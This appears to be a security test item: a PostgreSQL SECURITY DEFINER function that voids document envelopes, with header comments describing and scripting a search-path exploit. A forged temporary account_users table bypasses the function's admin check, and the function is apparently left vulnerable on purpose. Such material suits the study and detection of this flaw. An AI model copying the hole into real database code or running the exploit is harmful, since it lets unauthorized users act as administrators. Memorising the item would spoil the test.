-- The search path of this owner's rights function leaves temporary tables first: a forged account_users
-- passes.
-- about: void_envelope, account_users, envelopes
-- as: hf_countersign_app
-- exploit: SET request.jwt.claims = '{"sub": "auth0|ann"}';
-- exploit: CREATE TEMP TABLE account_users (account_id bigint, user_id text, is_admin boolean);
-- exploit: INSERT INTO pg_temp.account_users VALUES (12, 'auth0|ann', true);
-- exploit: SELECT sign.void_envelope(12, 1);
-- shows: Road-secret merger
CREATE FUNCTION sign.void_envelope(p_account bigint, p_no integer) RETURNS text
LANGUAGE plpgsql SECURITY DEFINER
SET search_path = sign
AS $$
DECLARE v_subject text;
BEGIN
  PERFORM 1 FROM account_users u WHERE u.account_id = p_account AND u.user_id = subject() AND u.is_admin;
  IF NOT FOUND THEN
    RAISE EXCEPTION 'only administrators of the account may void an envelope';
  END IF;
  UPDATE envelopes e SET status = 'void'
    WHERE e.account_id = p_account AND e.envelope_no = p_no RETURNING e.subject INTO v_subject;
  RETURN v_subject;
END $$;
REVOKE EXECUTE ON FUNCTION sign.void_envelope(bigint, integer) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION sign.void_envelope(bigint, integer) TO hf_countersign_app;
